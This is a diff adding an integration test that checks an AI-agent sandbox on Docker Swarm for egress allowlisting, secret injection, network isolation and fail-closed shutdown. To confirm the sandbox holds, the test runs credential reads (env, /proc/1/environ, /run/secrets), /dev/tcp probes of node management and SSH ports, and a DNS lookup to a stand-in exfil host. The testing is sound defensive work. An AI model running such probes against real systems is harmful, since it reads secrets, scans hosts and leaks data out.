@@ -1,0 +1,336 @@
+// A real bottle on a three-node Docker Swarm, started as a user would (`start --backend
+// swarm`): the egress plane through pipelock and egress on the node it is pinned to, its route
+// token a Swarm secret that no inspect output shows, the agent cut off from the nodes and the
+// outside, list and stop finding it from the manager, and a killed agent task failing closed.
+import { mkdtemp, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { stringify } from "yaml";
+import { NODE_ENGINE_LABEL } from "../../src/backend/swarm/swarm-engines.js";
+import { BOTTLE_SLUG_LABEL } from "../../src/contracts/agent.js";
+import { writeStubCerts } from "../../src/demo/demo-stubs.js";
+import { VERSION } from "../../src/shared/version.js";
+import {
+  type CliResult,
+  makeTestHome,
+  PACKAGE_ROOT,
+  slugOf,
+  type TestHome,
+  writeAgentBottle,
+} from "../support/cli/cli-process.js";
+import { describeWithEngine } from "../support/docker/engine.js";
+import { waitFor } from "../support/docker/wait-for.js";
+import { runDocker } from "../support/swarm/docker-process.js";
+import { removeSwarm, type StartedSwarm, startSwarm } from "../support/swarm/swarm-fixture.js";
+import {
+  execInTask,
+  type RunningTask,
+  runningTask,
+  serviceTasks,
+  tcpReach,
+} from "../support/swarm/swarm-tasks.js";
+import { makeUpstreamCa, type UpstreamCa } from "../support/tls/test-ca.js";
+
+const ALLOWED = "allowed.example.test";
+const ROUTE_HOST = "api.example.test";
+const UNLISTED = "unlisted.example.test";
+const ROUTE_TOKEN = "cbtest-swarm-route-5e0a41c9d7b2";
+const NODE_IMAGE = `claude-bottle/node:${VERSION}`;
+
+describeWithEngine("a bottle on a three-node swarm", () => {
+  let swarm: StartedSwarm;
+  let t: TestHome;
+  let ca: UpstreamCa;
+  let standinDir: string;
+  let cli: ReturnType<TestHome["spawn"]>;
+  let slug: string;
+  let project: string;
+  let agent: RunningTask;
+  let standin: RunningTask;
+
+  const env = () => ({
+    CLAUDE_BOTTLE_BACKEND: "swarm",
+    CLAUDE_BOTTLE_SWARM_HOST: swarm.managerHost,
+    CLAUDE_BOTTLE_UPSTREAM_CA: ca.caFile,
+    CB_SWARM_TOKEN: ROUTE_TOKEN,
+  });
+  const inAgent = (script: string) =>
+    agent.node.docker(["exec", "-u", "agent", agent.container, "sh", "-c", script], {
+      allowFailure: true,
+      timeoutMs: 60_000,
+    });
+  const standinRequests = async () =>
+    (await execInTask(standin, "cat /tmp/requests.jsonl 2>/dev/null || true")).stdout
+      .split("\n")
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as { url: string; headers: Record<string, string> });
+
+  beforeAll(async () => {
+    swarm = await startSwarm();
+    // Each node says where its engine answers, as an administrator would label it.
+    for (const node of swarm.nodes) {
+      await swarm.docker([
+        "node",
+        "update",
+        "--label-add",
+        `${NODE_ENGINE_LABEL}=${node.dockerHost}`,
+        node.container,
+      ]);
+    }
+    t = await makeTestHome();
+    ca = await makeUpstreamCa();
+    await writeAgentBottle(
+      t,
+      "sw",
+      `egress:
+  allow: [${ALLOWED}]
+  routes:
+    - host: ${ROUTE_HOST}
+      paths: ["/v1/"]
+      auth: { scheme: Bearer, token_env: CB_SWARM_TOKEN }
+supervise: false
+`,
+    );
+    cli = t.spawn(["start", "sw", "--yes", "--exec", "sleep 3600"], env());
+    const started = await waitFor(
+      "the swarm bottle to run its command",
+      async () => {
+        const out = cli.output();
+        if (cli.exitCode !== null) throw new Error(`start exited ${cli.exitCode}:\n${out.stderr}`);
+        return out.stderr.includes("running: sleep 3600") ? out : null;
+      },
+      600_000,
+      1000,
+    );
+    slug = slugOf(started.stderr);
+    project = `claude-bottle-${slug}`;
+    agent = await runningTask(swarm, `${project}_agent`);
+    standin = await startStandin();
+  }, 900_000);
+
+  /** The HTTPS stand-in, a service of its own stack on the bottle's egress overlay. */
+  async function startStandin(): Promise<RunningTask> {
+    standinDir = await mkdtemp(join(tmpdir(), "cb-swarm-standin-"));
+    const hosts = [ALLOWED, ROUTE_HOST, UNLISTED];
+    const certs = await writeStubCerts(standinDir, ca.ca, hosts, new Date());
+    const image = (
+      await runDocker(["image", "inspect", "-f", "{{.Id}}", NODE_IMAGE])
+    ).stdout.trim();
+    const stack = {
+      version: "3.9",
+      services: {
+        upstream: {
+          image,
+          entrypoint: ["node", "/srv/server.mjs"],
+          networks: { egress: { aliases: hosts } },
+          configs: [
+            { source: "server", target: "/srv/server.mjs" },
+            { source: "certs", target: "/srv/certs.json" },
+          ],
+          deploy: {
+            endpoint_mode: "dnsrr",
+            placement: { constraints: [`node.hostname == ${agent.node.container}`] },
+            restart_policy: { condition: "none" },
+          },
+        },
+      },
+      networks: { egress: { external: true, name: `claude-bottle-${slug}-egress` } },
+      configs: {
+        server: { file: join(PACKAGE_ROOT, "src/demo/stub-upstream-server.mjs") },
+        certs: { file: certs },
+      },
+    };
+    await swarm.docker(
+      [
+        "stack",
+        "deploy",
+        "--detach=true",
+        "--resolve-image",
+        "never",
+        "-c",
+        "-",
+        `standin-${slug}`,
+      ],
+      { input: stringify(stack) },
+    );
+    const task = await runningTask(swarm, `standin-${slug}_upstream`);
+    await waitFor("the stand-in to listen", async () =>
+      (
+        await execInTask(
+          task,
+          "node -e \"require('net').connect(443,'127.0.0.1').on('connect',()=>process.exit(0)).on('error',()=>process.exit(1))\"",
+        )
+      ).code === 0
+        ? true
+        : null,
+    );
+    return task;
+  }
+
+  afterAll(async () => {
+    cli?.kill("SIGTERM");
+    await waitFor(
+      "the CLI to exit",
+      async () => (cli?.exitCode !== null ? true : null),
+      120_000,
+    ).catch(() => {});
+    if (swarm !== undefined) {
+      await swarm.docker(["stack", "rm", `standin-${slug}`], { allowFailure: true });
+      await t?.run(["cleanup", "--all", "--yes"], env());
+      await removeSwarm(swarm.id);
+    }
+    await ca?.dispose();
+    if (standinDir) await rm(standinDir, { recursive: true, force: true });
+    await t?.dispose();
+  }, 300_000);
+
+  it("runs every service of the bottle on one node, pinned, found by list", async () => {
+    const rows = await Promise.all(
+      ["agent", "pipelock", "egress"].map((s) => serviceTasks(swarm, `${project}_${s}`)),
+    );
+    const nodes = new Set(
+      rows
+        .flat()
+        .filter((r) => r.currentState.startsWith("Running"))
+        .map((r) => r.node),
+    );
+    expect([...nodes]).toEqual([agent.node.container]);
+    const listed = await t.run(["list", "--json"], env());
+    const bottle = (
+      JSON.parse(listed.stdout) as Array<{
+        slug: string;
+        state: string;
+        services: string[];
+        attached: boolean;
+      }>
+    ).find((b) => b.slug === slug);
+    expect(bottle).toMatchObject({ state: "running", attached: true });
+    expect(bottle?.services).toEqual(["agent", "egress", "pipelock"]);
+    // The compose backend does not claim it.
+    const compose = await t.run(["list", "--json", "--backend", "compose"], env());
+    expect(
+      (JSON.parse(compose.stdout) as Array<{ slug: string }>).map((b) => b.slug),
+    ).not.toContain(slug);
+  });
+
+  it("reaches an allowlisted host through pipelock's intercepted TLS", async () => {
+    const r = await inAgent(`curl -sS -m 20 https://${ALLOWED}/swarm-hello`);
+    expect(r.stderr).toBe("");
+    expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, url: "/swarm-hello" });
+  });
+
+  it("refuses an unlisted host, telling why, and the host receives nothing", async () => {
+    const r = await inAgent(
+      `curl -sS -m 20 -w '\\n%{http_connect} %{http_code}' https://${UNLISTED}/swarm-refused 2>&1`,
+    );
+    expect(r.stdout).toContain(`"${UNLISTED}:443" is not on this bottle's egress allowlist`);
+    expect(r.stdout).toMatch(/\n200 403$/);
+    expect((await standinRequests()).filter((q) => q.url === "/swarm-refused")).toEqual([]);
+  });
+
+  it("injects the route token from a Swarm secret; the agent never holds it", async () => {
+    const r = await inAgent(
+      `curl -sS -m 20 -H 'Authorization: Bearer agent-fake' https://${ROUTE_HOST}/v1/swarm-models`,
+    );
+    expect(JSON.parse(r.stdout)).toMatchObject({ ok: true, url: "/v1/swarm-models" });
+    const seen = (await standinRequests()).filter((q) => q.url === "/v1/swarm-models");
+    expect(seen.at(-1)?.headers.authorization).toBe(`Bearer ${ROUTE_TOKEN}`);
+    const mine = await inAgent("env; cat /proc/1/environ; ls -la /run/secrets 2>&1");
+    expect(mine.stdout).not.toContain(ROUTE_TOKEN);
+    expect(mine.stdout).toContain("No such file");
+  });
+
+  it("shows the token's value in no service, task, container, secret or config output", async () => {
+    const forms = [ROUTE_TOKEN, Buffer.from(ROUTE_TOKEN).toString("base64")];
+    const outputs: CliResult[] = [];
+    const services = (
+      await swarm.docker(["service", "ls", "-q", "--filter", `label=${BOTTLE_SLUG_LABEL}=${slug}`])
+    ).stdout
+      .split("\n")
+      .filter(Boolean);
+    expect(services.length).toBe(3);
+    const push = (r: { code: number; stdout: string; stderr: string }) => outputs.push(r);
+    push(await swarm.docker(["service", "inspect", ...services]));
+    const tasks = (await swarm.docker(["service", "ps", "-q", "--no-trunc", ...services])).stdout
+      .split("\n")
+      .filter(Boolean);
+    push(await swarm.docker(["inspect", "--type", "task", ...tasks]));
+    for (const kind of ["secret", "config"]) {
+      const ids = (
+        await swarm.docker([kind, "ls", "-q", "--filter", `label=${BOTTLE_SLUG_LABEL}=${slug}`])
+      ).stdout
+        .split("\n")
+        .filter(Boolean);
+      expect(ids.length).toBeGreaterThan(0);
+      push(await swarm.docker([kind, "inspect", ...ids]));
+    }
+    push(await swarm.docker(["stack", "ps", "--no-trunc", project]));
+    for (const node of swarm.nodes) {
+      const ids = (await node.docker(["ps", "-aq"])).stdout.split("\n").filter(Boolean);
+      if (ids.length > 0) push(await node.docker(["inspect", ...ids]));
+    }
+    push(cli.output() as CliResult & { code: number });
+    const all = outputs.map((o) => `${o.stdout}${o.stderr}`).join("\n");
+    expect(all).toContain(`${project}_egress`);
+    for (const form of forms) expect(all).not.toContain(form);
+  });
+
+  it("leaves the agent no way to the nodes, the host or outside names", async () => {
+    const targets = [
+      ...swarm.nodes.flatMap((n) => [`${n.address}:2377`, `${n.address}:7946`, `${n.address}:22`]),
+      `${swarm.gateway}:22`,
+    ];
+    const script = targets
+      .map((target) => {
+        const [host, port] = target.split(":");
+        return `if timeout 4 bash -c 'exec 3<>/dev/tcp/${host}/${port}' 2>/dev/null; then echo "${target} connected"; fi`;
+      })
+      .join("\n");
+    const reach = await inAgent(script);
+    expect(reach.stdout).toBe("");
+    // The same probe does connect where the agent may go: its own pipelock.
+    const control = await inAgent(
+      `timeout 4 bash -c 'exec 3<>/dev/tcp/claude-bottle-pipelock-${slug}/8888' && echo connected`,
+    );
+    expect(control.stdout.trim()).toBe("connected");
+    const before = await swarm.dns.queries();
+    const probe = `probe-${slug}.exfil.example.com`;
+    await inAgent(`getent hosts ${probe}; true`);
+    const after = await swarm.dns.queries();
+    expect(after.slice(before.length).filter((q) => q.includes("exfil"))).toEqual([]);
+    // The egress overlay does reach them (the targets were live): pipelock's task connects.
+    const pipelock = await runningTask(swarm, `${project}_pipelock`);
+    const fromPipelock = await tcpReach(pipelock, [`${swarm.manager.address}:2377`]);
+    expect(fromPipelock[`${swarm.manager.address}:2377`]).toBe("connected");
+  });
+
+  it("fails closed when the agent's task is killed: nothing restarts it, the CLI removes it all", async () => {
+    // The stand-in sits on the bottle's egress network, which would keep it from removal.
+    await swarm.docker(["stack", "rm", `standin-${slug}`]);
+    await waitFor("the stand-in to go", async () =>
+      (await serviceTasks(swarm, `standin-${slug}_upstream`).catch(() => [])).length === 0 &&
+      (
+        await standin.node.docker(["ps", "-q", "--filter", `id=${standin.container}`])
+      ).stdout.trim() === ""
+        ? true
+        : null,
+    );
+    await agent.node.docker(["kill", agent.container]);
+    const code = await waitFor("the CLI to exit", async () => cli.exitCode, 180_000);
+    expect(code).not.toBe(0);
+    const rows = await serviceTasks(swarm, `${project}_agent`).catch(() => []);
+    expect(rows.filter((r) => r.currentState.startsWith("Running"))).toEqual([]);
+    const label = `label=${BOTTLE_SLUG_LABEL}=${slug}`;
+    for (const kind of ["service", "secret", "config", "network"]) {
+      expect((await swarm.docker([kind, "ls", "-q", "--filter", label])).stdout.trim(), kind).toBe(
+        "",
+      );
+    }
+    expect((await agent.node.docker(["volume", "ls", "-q", "--filter", label])).stdout.trim()).toBe(
+      "",
+    );
+    const listed = await t.run(["list", "--json"], env());
+    expect(JSON.parse(listed.stdout)).toEqual([]);
+  });
+});
